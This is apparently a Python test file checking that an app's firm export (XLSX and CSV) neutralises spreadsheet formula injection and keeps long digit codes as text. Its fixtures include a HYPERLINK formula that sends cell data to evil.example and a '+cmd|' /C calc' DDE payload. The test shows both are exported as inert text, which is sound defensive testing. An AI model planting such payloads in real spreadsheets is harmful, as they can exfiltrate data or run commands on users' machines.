"""The firm export neutralises formulas and keeps codes as text, numbers as numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import sqlalchemy as sa

from app.firms import export
from app.firms.models import Firm

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
DIGITS = "913205834308879414"  # an all-digit code a spreadsheet would turn into 9.13206E+17


def _write(fmt) -> bytes:
    handle = io.BytesIO()
    export.write(sa.select(Firm).order_by(Firm.id), fmt, handle)
    return handle.getvalue()


def test_a_hostile_firm_is_exported_as_inert_text_and_its_code_as_text(make):
    make.firm(uscc=DIGITS, name=HOSTILE, english_name="+cmd|' /C calc'!A0",
              address="@SUM(1)", employees=120)
    content = _write("xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    row = next(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    uscc, name, english = row[0], row[1], row[2]
    assert (uscc.value, uscc.data_type) == (DIGITS, "s")
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE, "s", True)
    assert english.quotePrefix and row[8].quotePrefix  # address
    assert (row[9].value, row[9].data_type) == (120, "n")

    line = list(csv.reader(io.StringIO(_write("csv").decode("utf-8-sig"))))[1]
    assert line[0] == "\t" + DIGITS
    assert line[1] == "'" + HOSTILE and line[2] == "'+cmd|' /C calc'!A0"
    assert line[8] == "'@SUM(1)" and line[9] == "120"
